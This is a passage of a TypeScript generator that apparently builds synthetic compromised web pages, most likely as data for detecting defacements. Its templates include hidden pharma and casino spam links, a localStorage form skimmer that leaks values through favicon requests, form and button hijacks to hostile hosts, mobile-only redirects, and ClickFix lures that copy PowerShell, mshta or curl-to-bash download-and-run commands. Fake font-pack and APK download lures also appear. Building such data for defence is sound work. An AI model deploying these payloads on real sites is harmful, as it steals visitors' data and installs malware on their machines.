  const title = `${jpKeyword(rng)}${pick(rng, [" | ", " - ", "【", "｜"])}${jpKeyword(rng)}${pick(rng, ["", "】", " 公式"])}`
  if (page.spots.title !== null) out.push(replace(page.spots.title, esc(title)))
  else out.push(insert(head(page), `<title>${esc(title)}</title>`))
  const hs = headingRuns(page)
  for (const h of hs.slice(0, between(rng, 1, 3))) out.push(replace(trimmed(page, h), esc(jpKeyword(rng))))
  const base = chance(rng, 0.4) ? new URL(page.site.url).origin : ""
  const dir = pick(rng, ["/", "/?", "/index.php?", `/${alnum(rng, 3)}/`, "/products/"])
  const href = () => dir.endsWith("?") ? `${base}${dir}${pick(rng, ["p", "id", "a", alnum(rng, 2)])}=${digits(rng, between(rng, 4, 8))}` : `${base}${dir}${pick(rng, [() => `${digits(rng, 6)}.html`, () => `${alnum(rng, 8)}.html`, () => `${pick(rng, ["item", "shop", "goods"])}-${digits(rng, 5)}.htm`])()}`
  const n = between(rng, 6, 24)
  const items = Array.from({ length: n }, () => `<a href="${esc(href())}">${esc(jpKeyword(rng))}</a>`)
  const block = pick(rng, [
    `<div class="${pick(rng, ["links", "tags", "related", "item-list"])}">${items.join(pick(rng, [" ", " | ", "<br>"]))}</div>`,
    `<ul>${items.map((i) => `<li>${i}</li>`).join("")}</ul>`
  ])
  out.push(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), slotAt(page.spots, "bottom")]), block))
  return { splices: out }
})

const spamLines: ReadonlyArray<{ readonly text: string; readonly anchor: string; readonly path: string }> = [
  { text: "Order generic medication online without a prescription.", anchor: "buy cialis online", path: "cialis" },
  { text: "Fast discreet delivery, all cards accepted.", anchor: "viagra 100mg cheap", path: "viagra-generic" },
  { text: "Lose weight fast with injections shipped overnight.", anchor: "ozempic without prescription", path: "semaglutide" },
  { text: "Pain relief tablets with next-day shipping.", anchor: "tramadol overnight", path: "tramadol" },
  { text: "Claim a welcome bonus and free spins today.", anchor: "online casino real money", path: "casino" },
  { text: "Bandar slot terpercaya, gampang menang.", anchor: "slot gacor hari ini", path: "slot-gacor" },
  { text: "Best odds and instant crypto withdrawals.", anchor: "bitcoin casino no kyc", path: "crypto-casino" },
  { text: "Approval in minutes, bad credit accepted.", anchor: "payday loans same day", path: "payday-loans" },
  { text: "Get cash today, no credit check.", anchor: "instant loan no credit check", path: "loans" },
  { text: "Swiss-made look, factory prices.", anchor: "replica rolex watches", path: "replica-watches" },
  { text: "Plagiarism-free papers written overnight.", anchor: "buy essay online cheap", path: "essay" }
]
const hideStyles = [
  "font-size:0", "font-size:0;line-height:0", "position:absolute;left:-9999px", "position:absolute;top:-10000px;left:-10000px",
  "display:inline-block;width:0;height:0;overflow:hidden", "color:transparent;font-size:1px", "position:absolute;clip-path:inset(50%)",
  "opacity:0;position:absolute;z-index:-1", "display:inline-block;overflow:hidden;width:1px;height:1px;text-indent:-999px", "font-size:.1px;color:inherit"
]

// Mid-sentence spam, recalled from memory of pharma-hack and casino-spam clean-ups (Sucuri's "pharma hack" write-ups, about 2011–2024, and the Indonesian "slot gacor" wave on university and government sites, 2022–2024): spam text and a keyword link hidden inside one of the site's own sentences, at a word boundary, by a zero-size or off-screen inline style, so the paragraph reads as before.
const midSentenceSpam = deface("pharma, casino or loan spam with a keyword link hidden inside the site's own sentences at a word boundary (zero font size, off-screen, zero box, transparent)", (page, rng) => {
  const runs = proseRuns(page, 40)
  const pool = runs.length > 0 ? runs : textRuns(page, 12).filter((t) => under(page, t, /^a$/) === null)
  const style = pick(rng, hideStyles)
  const domain = randomDomain(rng)
  const make = () => {
    const s = pick(rng, spamLines)
    const url = `https://${chance(rng, 0.7) ? domain : randomDomain(rng)}/${pick(rng, ["", "go/", "p/", "?r="])}${s.path}${pick(rng, ["", ".html", "/", `-${digits(rng, 3)}`])}`
    return `<span style="${style}">${esc(s.text)} <a href="${esc(url)}">${esc(s.anchor)}</a></span>`
  }
  const out: Array<Splice> = []
  for (const t of pool.length === 0 ? [] : sample(rng, pool, between(rng, 1, Math.min(3, pool.length)))) {
    const raw = page.html.slice(t.start, t.end)
    const spaces = [...raw.matchAll(/ /g)].map((m) => m.index!).filter((i) => i > raw.length * 0.2 && i < raw.length * 0.8)
    const at = spaces.length > 0 ? pick(rng, spaces) : trimmed(page, t).end - t.start
    out.push(insert(t.start + at, ` ${make()}`))
  }
  if (out.length === 0) out.push(insert(slotAt(page.spots, "bottom"), `<div style="${style}">${make()} ${make()}</div>`))
  return { splices: out }
})

interface Verse {
  readonly lang: string
  readonly rtl: boolean
  readonly text: string
  readonly flag: string | null
}
const verses: ReadonlyArray<Verse> = [
  { lang: "ar", rtl: true, text: "وَلَا تَحْسَبَنَّ اللَّهَ غَافِلًا عَمَّا يَعْمَلُ الظَّالِمُونَ", flag: null },
  { lang: "ar", rtl: true, text: "لا إله إلا الله محمد رسول الله", flag: null },
  { lang: "ar", rtl: true, text: "القدس عاصمة فلسطين الأبدية", flag: "ps" },
  { lang: "tr", rtl: false, text: "Ne mutlu Türküm diyene!", flag: "tr" },
  { lang: "id", rtl: false, text: "Indonesia tanah air beta, pusaka abadi nan jaya.", flag: "id" },
  { lang: "ur", rtl: true, text: "ہم دیکھیں گے، لازم ہے کہ ہم بھی دیکھیں گے", flag: "pk" },
  { lang: "bn", rtl: false, text: "আমার সোনার বাংলা, আমি তোমায় ভালোবাসি", flag: "bd" },
  { lang: "ru", rtl: false, text: "Россия своих не бросает.", flag: "ru" },
  { lang: "uk", rtl: false, text: "Слава Україні! Героям слава!", flag: "ua" },
  { lang: "he", rtl: true, text: "עם ישראל חי", flag: "il" },
  { lang: "hi", rtl: false, text: "भारत माता की जय! वन्दे मातरम्", flag: "in" },
  { lang: "zh", rtl: false, text: "台湾是中国领土不可分割的一部分", flag: "cn" },
  { lang: "vi", rtl: false, text: "Hoàng Sa, Trường Sa là của Việt Nam!", flag: "vn" },
  { lang: "fa", rtl: true, text: "بنی‌آدم اعضای یکدیگرند که در آفرینش ز یک گوهرند", flag: "ir" },
  { lang: "la", rtl: false, text: "Paenitentiam agite: appropinquavit enim regnum caelorum.", flag: null }
]

// Verses and slogans in another script, recalled from memory of Zone-H and Mirror-H categories of religious and nationalist defacements (Qur'anic verses and the shahada, Turkish and Indonesian nationalist lines, Russian and Ukrainian slogans of 2022, Chinese and Vietnamese lines over the South China Sea, often with a flag and nothing else): one verse or slogan in a language the site does not use, centred under the header, with or without a flag from a flag CDN or an image host.
const foreignVerse = deface("verse or slogan in a language and script the site does not use (Arabic, Turkish, Urdu, Hebrew, Chinese...), centred under the header with or without a flag picture", (page, rng) => {
  const v = pick(rng, verses)
  const flag = v.flag !== null && chance(rng, 0.7)
    ? pick(rng, [`https://flagcdn.com/w${pick(rng, [160, 320, 640])}/${v.flag}.png`, `https://flagcdn.com/${v.flag}.svg`, imageHostUrl(rng, pick(rng, ["png", "gif"]))])
    : null
  const size = between(rng, 22, 48)
  const html = `<div style="text-align:center;padding:${between(rng, 10, 40)}px 0${chance(rng, 0.4) ? ";background:#000;color:#fff" : ""}">${flag === null ? "" : `<img src="${esc(flag)}" alt="" width="${between(rng, 90, 260)}">`}<p lang="${v.lang}"${v.rtl ? ' dir="rtl"' : ""} style="font-size:${size}px;margin:.4em 0">${esc(v.text)}</p></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), html))
})

const shortLines: T<ReadonlyArray<string>> = {
  en: ["Ask them where the money went.", "Nobody here tells you the truth.", "Closed until the truth comes out.", "You were warned.", "Everything here is a lie.", "Shame on the people who run this place."],
  fr: ["Demandez-leur où est passé l'argent.", "Ici, personne ne vous dit la vérité.", "Fermé jusqu'à ce que la vérité éclate.", "Vous étiez prévenus.", "Tout ici est mensonge.", "Honte à ceux qui dirigent cet endroit."],
  de: ["Fragt sie, wo das Geld geblieben ist.", "Hier sagt euch niemand die Wahrheit.", "Geschlossen, bis die Wahrheit ans Licht kommt.", "Ihr wurdet gewarnt.", "Alles hier ist gelogen.", "Schande über die Verantwortlichen."],
  es: ["Pregúntenles adónde fue el dinero.", "Aquí nadie les dice la verdad.", "Cerrado hasta que salga la verdad.", "Estaban avisados.", "Todo aquí es mentira.", "Vergüenza para quienes dirigen esto."],
  nl: ["Vraag ze waar het geld is gebleven.", "Niemand vertelt je hier de waarheid.", "Gesloten tot de waarheid boven water komt.", "Jullie waren gewaarschuwd.", "Alles hier is gelogen.", "Schande over wie dit leidt."],
  pt: ["Perguntem para onde foi o dinheiro.", "Aqui ninguém lhes diz a verdade.", "Fechado até que a verdade apareça.", "Vocês foram avisados.", "Tudo aqui é mentira.", "Vergonha para quem dirige isto."],
  it: ["Chiedete loro dove sono finiti i soldi.", "Qui nessuno vi dice la verità.", "Chiuso finché non verrà fuori la verità.", "Eravate stati avvisati.", "Qui è tutto falso.", "Vergogna a chi dirige questo posto."]
}
const someLine = (rng: Rng, page: Page): string => (chance(rng, 0.3) ? political(rng).text : pick(rng, shortLines[writeIn(rng, page)]))

// Generated-content defacements, recalled from memory of CSS-injection write-ups (defacements through a writable custom-CSS field of a theme or page builder, about 2015–2024: the intruder can only add styles, so the words come from ::before and ::after content while the real text is shrunk to nothing): the page's headings keep their markup but show the intruder's line instead, or the body opens with it, through a stylesheet in the head.
const generatedHeadings = deface("headings' own words shrunk to nothing by an injected stylesheet and the intruder's line shown instead through ::after generated content (or opening the body), markup untouched", (page, rng) => {
  const msg = someLine(rng, page)
  const hasH1 = shown(page, "h1").length > 0
  const hasH2 = shown(page, "h2").length > 0
  const sel = hasH1 ? pick(rng, ["h1", hasH2 ? "h1,h2" : "h1"]) : hasH2 ? "h2" : null
  const colour = pick(rng, ["#c00", "#000", "#fff", "red", "#0a0", "inherit"])
  const px = between(rng, 24, 48)
  const css = sel === null
    ? `body::before{content:${cssString(msg)};display:block;text-align:center;font:bold ${px}px/1.3 ${pick(rng, ["Arial", "Georgia", "Impact", "monospace"])};padding:${between(rng, 20, 60)}px;color:${colour};background:${pick(rng, ["#000", "#fff", "#ffd400"])}}`
    : `${sel}{font-size:0!important;line-height:0!important;color:transparent!important}${sel.split(",").map((s) => `${s}::after`).join(",")}{content:${cssString(msg)};display:block;font-size:${px}px;line-height:1.25;color:${colour}}`
  return splices(insert(pick(rng, [head(page), head(page), top(page)]), `<style${chance(rng, 0.3) ? ` id="${pick(rng, ["custom-css", "wp-custom-css", "theme-inline-css", "additional-css"])}"` : ""}>${css}</style>`))
})

// Soundtracks, recalled from memory of defacement mirrors that play a song or an anthem (an autoplaying <embed> or <audio> in old pages, a one-pixel YouTube embed with autoplay in newer ones, about 2005–2024), often the only change besides a short dedication: a hidden player loading a track from another host, with or without one line.
const hiddenSoundtrack = deface("hidden autoplaying soundtrack added (an audio, embed or video element, or a one-pixel video-site embed with autoplay) loading a track from another host, with or without a one-line dedication", (page, rng) => {
  const name = pick(rng, ["anthem", "song", "track", "music", "intro", alnum(rng, 6)])
  const ext = pick(rng, ["mp3", "mp3", "ogg", "m4a"])
  const file = pick(rng, [
    () => `https://files.catbox.moe/${alnum(rng, 6)}.${ext}`,
    () => `https://cdn.discordapp.com/attachments/${digits(rng, 18)}/${digits(rng, 18)}/${name}.${ext}`,
    () => `https://${randomDomain(rng)}/${pick(rng, ["music", "mp3", "audio", "media"])}/${name}.${ext}`,
    () => `https://a.uguu.se/${alnum(rng, 8)}.${ext}`
  ])()
  const yt = `${base58(rng, 11)}`
  const player = pick(rng, [
    () => `<audio src="${esc(file)}" autoplay loop${chance(rng, 0.6) ? " hidden" : ""}></audio>`,
    () => `<embed src="${esc(file)}" autostart="true" loop="true" hidden="true" width="0" height="0">`,
    () => `<video src="${esc(file)}" autoplay loop playsinline style="width:1px;height:1px;opacity:0;position:absolute"></video>`,
    () => `<iframe width="1" height="1" src="https://www.youtube.com/embed/${yt}?autoplay=1&amp;loop=1&amp;playlist=${yt}" allow="autoplay" frameborder="0" style="position:absolute;left:-100px"></iframe>`,
    () => `<iframe width="1" height="1" src="https://w.soundcloud.com/player/?url=${encodeURIComponent(`https://api.soundcloud.com/tracks/${digits(rng, 9)}`)}&amp;auto_play=true" allow="autoplay" frameborder="0"></iframe>`
  ])()
  const line = chance(rng, 0.6) ? `<p style="text-align:center;font-style:italic">♪ ${esc(chance(rng, 0.5) ? someLine(rng, page) : pick(rng, [team(rng), nick(rng)]))}</p>` : ""
  return splices(insert(pick(rng, [top(page), page.spots.bodyClose, slotAt(page.spots, "top")]), player + line))
})

// Tab-only defacements, recalled from memory of small defacements archived by Zone-H and of CMS setting abuse (site title and site icon fields changed in WordPress's Customizer, about 2014–2024), which visitors notice only in their tab, their bookmarks and search results: the document title replaced with a short line or a handle, and the favicon pointing at a picture on an image host.
const tabTitleIcon = deface("tab title replaced by a short line or a handle and the site icon pointed at a picture on an image host, the page body untouched", (page, rng) => {
  const text = pick(rng, [() => someLine(rng, page), () => nick(rng), () => team(rng), () => `${brandName(page)} — ${someLine(rng, page)}`])()
  const icon = imageHostUrl(rng, pick(rng, ["png", "ico", "gif"]))
  const out: Array<Splice> = []
  if (page.spots.title !== null) out.push(replace(page.spots.title, esc(text)))
  else out.push(insert(head(page), `<title>${esc(text)}</title>`))
  const icons = page.spots.elements.filter((e) => e.name === "link" && !e.inert && rels(e).some((r) => r === "icon" || r === "apple-touch-icon"))
  const targets = attrTargets(page, icons, "href")
  if (targets.length > 0 && chance(rng, 0.8)) for (const t of targets) out.push(replace(t.value, esc(icon)))
  else out.push(insert(head(page), `<link rel="${pick(rng, ["icon", "shortcut icon"])}" href="${esc(icon)}">`))
  return { splices: out }
})

// ———————————————————————————— where the page sends visitors and their data ————————————————————————————

const collectPath = (rng: Rng) => pick(rng, ["/collect", "/f", "/api/submit", "/subscribe.php", "/wp-json/forms/v1/entry", "/gate.php", "/post", `/${alnum(rng, 6)}.php`, "/lead", "/v1/capture"])
const accountRe = /(log-?in|sign-?in|signin|account|member|client|customer|portal|secure|pay|checkout|donat|billing|auth|register|subscri|cart|order|contact|kontakt|connexion|anmeld|acceso|acesso|accedi|inloggen|compte|konto|cuenta|conta|newsletter)/i
const keyForms = (page: Page): Array<El> => {
  const all = forms(page)
  const key = all.filter((f) => accountRe.test(`${f.attribs.action ?? ""} ${f.attribs.class ?? ""} ${f.attribs.id ?? ""} ${f.attribs.name ?? ""}`))
  return key.length > 0 ? key : all
}
const submitters = (page: Page, form: El): Array<El> =>
  page.spots.elements.filter((e) => !e.inert && ((e.name === "button" && !/^(reset|button)$/i.test(e.attribs.type ?? "")) || (e.name === "input" && /^(submit|image)$/i.test(e.attribs.type ?? ""))) && within(page, e, form))

// Button-level hijacks, recalled from memory of the HTML standard's formaction attribute (a submit button's own action overrides the form's) and of skimming reports noting that reviewers check a form's action but not its buttons (Sansec and bug-bounty write-ups, about 2018–2024): the site's submit buttons given a formaction to another host (sometimes with formmethod and formnovalidate), while every form's own action stays as it was.
const buttonFormaction = deface("site's submit buttons given a formaction to another host (with formmethod or formnovalidate at times), every form's own action left as it was", (page, rng) => {
  const host = hostile(rng, page)
  const path = collectPath(rng)
  const fs = keyForms(page)
  const chosen = fs.length === 0 ? [] : chance(rng, 0.5) ? fs : sample(rng, fs, between(rng, 1, fs.length))
  const out: Array<Splice> = []
  for (const f of chosen) {
    for (const b of submitters(page, f)) {
      out.push(setAttr(page, b, "formaction", `https://${host}${path}${chance(rng, 0.3) ? `?f=${alnum(rng, 5)}` : ""}`))
      if (chance(rng, 0.5)) out.push(setAttr(page, b, "formmethod", "post"))
      if (chance(rng, 0.3) && attrValue(page.html, b, "formnovalidate") === null) out.push(setAttr(page, b, "formnovalidate", "formnovalidate"))
    }
  }
  if (out.length === 0) {
    const f = chosen[0] ?? forms(page)[0]
    const button = `<button type="submit" formaction="https://${esc(host)}${path}" formmethod="post">${esc(page.site.words.subscribe)}</button>`
    out.push(f !== undefined && f.closeTag !== null ? insert(f.closeTag.start, button) : insert(slotAt(page.spots, "bottom"), `<form method="post" action="/"><input type="email" name="email">${button}</form>`))
  }
  return { splices: out }
})

// Protocol-relative actions, recalled from memory of clean-up notes in which a form's action was edited to "//look-alike/path" (which a quick review takes for a path on the same site) on WordPress and Magento stores (about 2017–2023): some of the site's forms post to a look-alike host through a protocol-relative address, keeping their own path.
const protocolRelativeAction = deface("site's forms posting to a look-alike host through a protocol-relative address (//host/…), keeping their own path and method", (page, rng) => {
  const host = pick(rng, [() => brandLookalike(rng, page.site.brand), () => brandLookalike(rng, page.site.brand), () => `${page.site.host.replace(/^www\./, "")}.${pick(rng, ["secure-form", "cdn-edge", "webcache", "formproxy"])}.${tld(rng)}`])()
  const fs = keyForms(page)
  const chosen = fs.length === 0 ? [] : sample(rng, fs, between(rng, 1, fs.length))
  const out: Array<Splice> = chosen.map((f) => {
    const u = resolve(page, (f.attribs.action ?? "").replace(/&amp;/g, "&"))
    const path = u === null ? collectPath(rng) : `${u.pathname}${u.search}`
    return setAttr(page, f, "action", `//${host}${path}`)
  })
  if (out.length === 0) out.push(insert(slotAt(page.spots, "bottom"), `<form action="//${esc(host)}${collectPath(rng)}" method="post"><input type="email" name="email"> <button type="submit">${esc(page.site.words.subscribe)}</button></form>`))
  return { splices: out }
})

// Deferred exfiltration, recalled from memory of Sansec and Jscrambler reports on skimmers that avoid sending anything while the visitor types (keeping values in localStorage or cookies) and leak them later through an innocuous-looking request: a favicon, a tracking pixel or a font (about 2019–2023): an inline script saving every changed field in localStorage and, when the page is hidden or after a delay, adding a favicon link to another host with the values in its query.
const faviconLeakSkimmer = deface("inline script saving what visitors type in localStorage and later leaking it as the query of a favicon (or pixel) request to another host", (page, rng) => {
  const host = hostile(rng, page)
  const key = pick(rng, ["_ga_cache", "wp_session", "__cfg", "_pk_ref", "cart_state", `_${alnum(rng, 5)}`])
  const names = shuffle(rng, ["a", "b", "c", "d", "e", "f", "g", "h", "k", "m", "n", "q", "r", "s", "u", "x", "z"]).map((c) => `${c}${chance(rng, 0.5) ? alnum(rng, between(rng, 1, 3)) : ""}`)
  const [vs, vk, vf, ve] = [`_${names[0]!}`, `_${names[1]!}`, `_${names[2]!}`, `_${names[3]!}`]
  const url = `https://${host}/${pick(rng, ["favicon.ico", "favicon-32x32.png", "apple-touch-icon.png", "img/icon.png", "static/fav.ico"])}?${pick(rng, ["v", "d", "h", "cb"])}=`
  const leak = chance(rng, 0.7)
    ? `var l=document.createElement("link");l.rel="icon";l.href=${js(url)}+encodeURIComponent(btoa(unescape(encodeURIComponent(${vs}))));document.head.appendChild(l);`
    : `(new Image()).src=${js(url)}+encodeURIComponent(btoa(unescape(encodeURIComponent(${vs}))));`
  const code = `(function(){var ${vk}=${js(key)};document.addEventListener("change",function(${ve}){var t=${ve}.target;if(!t||!t.name)return;try{var o=JSON.parse(localStorage.getItem(${vk})||"{}");o[t.name]=t.value;localStorage.setItem(${vk},JSON.stringify(o))}catch(_){}},true);function ${vf}(){var ${vs}=localStorage.getItem(${vk});if(!${vs}||${vs}.length<3)return;${leak}localStorage.removeItem(${vk})}addEventListener("${pick(rng, ["pagehide", "beforeunload", "visibilitychange"])}",${vf});setTimeout(${vf},${between(rng, 5, 60) * 1000})})();`
  return splices(insert(scriptAt(rng, page), `<script${chance(rng, 0.3) ? ' type="text/javascript"' : ""}>${code}</script>`))
})

// Touch-only redirects, recalled from memory of Sucuri and GoDaddy write-ups on mobile-only redirects (about 2014–2024: phones sent to scam or adult pages while the owner, on a desktop, saw nothing), some once per session so a second look finds the site normal: a script that redirects only touch screens or narrow viewports, once per session or cookie.
const touchOnlyRedirect = deface("script redirecting only touch screens or narrow viewports (pointer:coarse, max-width, maxTouchPoints, mobile user agents) to another host, once per session or cookie", (page, rng) => {
  const url = `https://${hostile(rng, page)}/${pick(rng, ["", "m/", "go/", "lp/", "?s=", "r?id="])}${alnum(rng, between(rng, 3, 8))}`
  const test = pick(rng, [
    `matchMedia("(pointer:coarse)").matches`,
    `matchMedia("(max-width: ${pick(rng, [600, 767, 768, 820])}px)").matches`,
    `navigator.maxTouchPoints>0`,
    `/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)`,
    `"ontouchstart" in window`
  ])
  const once = pick(rng, [
    { check: `!sessionStorage.getItem("_m")`, mark: `sessionStorage.setItem("_m","1");` },
    { check: `document.cookie.indexOf("_mv=")<0`, mark: `document.cookie="_mv=1;path=/;max-age=${pick(rng, [3600, 86400, 604800])}";` },
    { check: `true`, mark: "" }
  ])
  const go = pick(rng, [`location.replace(${js(url)})`, `location.href=${js(url)}`, `window.top.location=${js(url)}`])
  const code = `if(${test}&&${once.check}){${once.mark}${chance(rng, 0.5) ? `setTimeout(function(){${go}},${between(rng, 200, 3000)})` : go}}`
  return splices(insert(scriptAt(rng, page), `<script>${code}</script>`))
})

const pasteWords: T<{ readonly head: string; readonly sub: string; readonly button: string; readonly steps: readonly [string, string, string] }> = {
  en: { head: "Verify you are human", sub: "Complete these verification steps to continue.", button: "I'm not a robot", steps: ["Press Windows + R", "Press Ctrl + V", "Press Enter"] },
  fr: { head: "Vérifiez que vous êtes humain", sub: "Effectuez ces étapes de vérification pour continuer.", button: "Je ne suis pas un robot", steps: ["Appuyez sur Windows + R", "Appuyez sur Ctrl + V", "Appuyez sur Entrée"] },
  de: { head: "Bestätigen Sie, dass Sie ein Mensch sind", sub: "Führen Sie diese Schritte aus, um fortzufahren.", button: "Ich bin kein Roboter", steps: ["Drücken Sie Windows + R", "Drücken Sie Strg + V", "Drücken Sie die Eingabetaste"] },
  es: { head: "Verifica que eres humano", sub: "Completa estos pasos de verificación para continuar.", button: "No soy un robot", steps: ["Pulsa Windows + R", "Pulsa Ctrl + V", "Pulsa Intro"] },
  nl: { head: "Bevestig dat je een mens bent", sub: "Voer deze verificatiestappen uit om verder te gaan.", button: "Ik ben geen robot", steps: ["Druk op Windows + R", "Druk op Ctrl + V", "Druk op Enter"] },
  pt: { head: "Verifique que você é humano", sub: "Conclua estas etapas de verificação para continuar.", button: "Não sou um robô", steps: ["Pressione Windows + R", "Pressione Ctrl + V", "Pressione Enter"] },
  it: { head: "Verifica di essere umano", sub: "Completa questi passaggi di verifica per continuare.", button: "Non sono un robot", steps: ["Premi Windows + R", "Premi Ctrl + V", "Premi Invio"] }
}
const macSteps: T<readonly [string, string, string]> = {
  en: ["Press Command + Space and type Terminal", "Press Command + V", "Press Return"],
  fr: ["Appuyez sur Commande + Espace et tapez Terminal", "Appuyez sur Commande + V", "Appuyez sur Retour"],
  de: ["Drücken Sie Befehl + Leertaste und tippen Sie Terminal", "Drücken Sie Befehl + V", "Drücken Sie den Zeilenschalter"],
  es: ["Pulsa Comando + Espacio y escribe Terminal", "Pulsa Comando + V", "Pulsa Retorno"],
  nl: ["Druk op Command + Spatie en typ Terminal", "Druk op Command + V", "Druk op Return"],
  pt: ["Pressione Command + Espaço e digite Terminal", "Pressione Command + V", "Pressione Return"],
  it: ["Premi Comando + Spazio e digita Terminale", "Premi Comando + V", "Premi Invio"]
}

// Paste-and-run lures, recalled from memory of Proofpoint's and Guardio's 2024 reports on "ClickFix" and fake-CAPTCHA campaigns on hacked sites (a verification box whose button copies a PowerShell or mshta command to the clipboard and tells the visitor to open Run, paste and press Enter; a macOS variant asking for Terminal and a curl-to-shell line): a full-page verification overlay in the site's language whose button copies such a command.
const pasteCommandLure = deface("fake verification overlay telling the visitor to open Run (or Terminal), paste and press Enter, its button copying a PowerShell, mshta or curl-to-shell command to the clipboard", (page, rng) => {
  const l = writeIn(rng, page)
  const w = pasteWords[l]
  const host = hostile(rng, page)
  const mac = chance(rng, 0.2)
  const cmd = mac
    ? `/bin/bash -c "$(curl -fsSL https://${host}/${pick(rng, ["install.sh", "verify", "captcha.sh"])})"`
    : pick(rng, [
      `powershell -w h -nop -c "iex(iwr 'https://${host}/${alnum(rng, 5)}' -UseBasicParsing)"`,
      `mshta https://${host}/${pick(rng, ["verify", "check", "captcha"])}.hta # ✅ I am not a robot - reCAPTCHA Verification ID: ${digits(rng, 4)}`,
      `cmd /c start /min powershell -ep bypass -c "irm ${host}/${alnum(rng, 3)}|iex"`,
      `powershell -enc ${Buffer.from(`iex (iwr https://${host}/${alnum(rng, 4)}).Content`, "utf16le").toString("base64")}`
    ])
  const steps = mac ? macSteps[l] : w.steps
  const id = `v${alnum(rng, 5)}`
  const onclick = `navigator.clipboard.writeText(${js(cmd)});document.getElementById(${js(id)}).style.display='block';return false`
  const html = `<div style="position:fixed;inset:0;z-index:${pick(rng, ["9999", "99999", "2147483647"])};background:rgba(255,255,255,.${between(rng, 85, 98)});display:flex;align-items:center;justify-content:center;font-family:Roboto,Arial,sans-serif"><div style="border:1px solid #d3d3d3;border-radius:4px;padding:24px;max-width:420px;background:#f9f9f9;box-shadow:0 0 4px rgba(0,0,0,.1)"><h2 style="margin-top:0;font-size:20px">${esc(w.head)}</h2><p>${esc(w.sub)}</p><p><a href="#" onclick="${esc(onclick)}" style="display:inline-flex;align-items:center;gap:10px;border:1px solid #ccc;padding:10px 14px;background:#fff;color:#000;text-decoration:none"><span style="display:inline-block;width:22px;height:22px;border:2px solid #c1c1c1;border-radius:2px"></span>${esc(w.button)}</a></p><ol id="${id}" style="display:none">${steps.map((s) => `<li>${esc(s)}</li>`).join("")}</ol></div></div>`
  return splices(insert(pick(rng, [top(page), page.spots.bodyClose]), html))
})

// Missing-font lures, recalled from memory of the EITest campaign's "HoeflerText font wasn't found" pop-up reported by Proofpoint and SANS (2017, and copies since): the page's text garbled into symbols by a script so that the visitor believes a font is missing, and a browser-styled box offering a "font pack" update that downloads an executable or script from another host.
const fontPackLure = deface("'the font wasn't found' lure: some of the site's text garbled into symbols and a browser-styled box offering a 'font pack' update downloaded from another host", (page, rng) => {
  const font = pick(rng, ["HoeflerText", "Segoe Pro", "Avenir Next", "Proxima Nova", "Helvetica Neue LT", "SF Pro Text"])
  const browser = pick(rng, ["Chrome", "Chrome", "Edge", "Firefox", "Opera"])
  const file = `https://${hostile(rng, page)}/${pick(rng, ["download", "fonts", "update", "dl"])}/${browser}_Font_${pick(rng, ["Pack", "Update", "v" + digits(rng, 2)])}${pick(rng, [".exe", ".zip", ".js", ".msi", ".hta", ".scr"])}`
  const glyphs = "ÃƒÂ¢â‚¬Å“Ã©Ã¨Â«Â»Ã°Ã¾Ââ–¡ï¿½ÐÑ"
  const garble = (s: string) => esc(s.replace(/[^\s]/g, () => glyphs[int(rng, glyphs.length)]!))
  const runs = textRuns(page, 12)
  const out: Array<Splice> = (runs.length === 0 ? [] : sample(rng, runs, between(rng, Math.min(3, runs.length), Math.min(12, runs.length)))).map((t) => replace(trimmed(page, t), garble(t.text.trim())))
  const box = `<div style="position:fixed;top:${between(rng, 10, 30)}%;left:50%;transform:translateX(-50%);z-index:99999;width:${between(rng, 440, 560)}px;background:#fff;border:1px solid #aaa;box-shadow:0 4px 18px rgba(0,0,0,.35);font:14px Arial,sans-serif;color:#222"><div style="background:${pick(rng, ["#4a7ad4", "#0078d7", "#ff9500", "#3b3b3b"])};color:#fff;padding:10px 14px;font-weight:bold">${esc(`The "${font}" font wasn't found.`)}</div><div style="padding:14px">${esc(`The web page you are trying to load is displayed incorrectly, as it uses the "${font}" font. To fix the error and display the text, you have to update the "${browser} Font Pack".`)}<p><b>Manufacturer:</b> ${esc(browser)} &nbsp; <b>Current version:</b> Not available</p><p style="text-align:right"><a href="${esc(file)}" style="background:#4a90e2;color:#fff;padding:8px 22px;text-decoration:none;border-radius:3px">Update</a></p></div></div>`
  out.push(insert(pick(rng, [top(page), page.spots.bodyClose]), box))
  return { splices: out }
})

const apkWords: T<{ readonly line: string; readonly note: string }> = {
  en: { line: "Download our Android app", note: "If your phone asks, allow installation from this source." },
  fr: { line: "Téléchargez notre application Android", note: "Si votre téléphone le demande, autorisez l'installation depuis cette source." },
  de: { line: "Unsere Android-App herunterladen", note: "Wenn Ihr Telefon nachfragt, erlauben Sie die Installation aus dieser Quelle." },
  es: { line: "Descarga nuestra app para Android", note: "Si el teléfono lo pide, permite la instalación desde este origen." },
  nl: { line: "Download onze Android-app", note: "Vraagt je telefoon erom, sta dan installatie uit deze bron toe." },
  pt: { line: "Baixe nosso aplicativo Android", note: "Se o celular pedir, permita a instalação desta fonte." },
  it: { line: "Scarica la nostra app Android", note: "Se il telefono lo chiede, consenti l'installazione da questa origine." }
}

// Sideloaded apps, recalled from memory of banking-trojan distribution through hacked sites (ESET's and ThreatFabric's write-ups on Android malware such as Anatsa, Hydra and SpyNote, about 2018–2024: "update" or "our app" links to an APK on the compromised site or a file host, with instructions to allow unknown sources): the site's app-store links (or a new app line) pointed at an APK file on another host.
const sideloadedApp = deface("site's app-store links (or a new 'our Android app' line with a note to allow unknown sources) pointed at an APK file on another host or a file-sharing page", (page, rng) => {
  const n = `${between(rng, 1, 9)}.${between(rng, 0, 20)}.${between(rng, 0, 9)}`
  const file = pick(rng, [
    () => `https://${hostile(rng, page)}/${pick(rng, ["app", "download", "android", "apk"])}/${bare(page)}${pick(rng, ["", "-app", "_release"])}.apk`,
    () => `https://github.com/${alnum(rng, 8)}/${bare(page)}-app/releases/download/v${n}/${bare(page)}-v${n}.apk`,
    () => `https://www.mediafire.com/file/${alnum(rng, 15)}/${bare(page)}_${n}.apk/file`,
    () => `https://${bare(page)}-${pick(rng, ["app", "mobile", "android"])}.${tld(rng)}/${bare(page)}.apk`
  ])()
  const appLinks = links(page).filter((a) => /play\.google\.com|apps\.apple\.com|itunes\.apple\.com|appgallery|galaxystore/i.test(a.attribs.href ?? ""))
  const out: Array<Splice> = attrTargets(page, appLinks, "href").map((t) => replace(t.value, esc(file)))
  if (out.length === 0 || chance(rng, 0.3)) {
    const w = apkWords[writeIn(rng, page)]
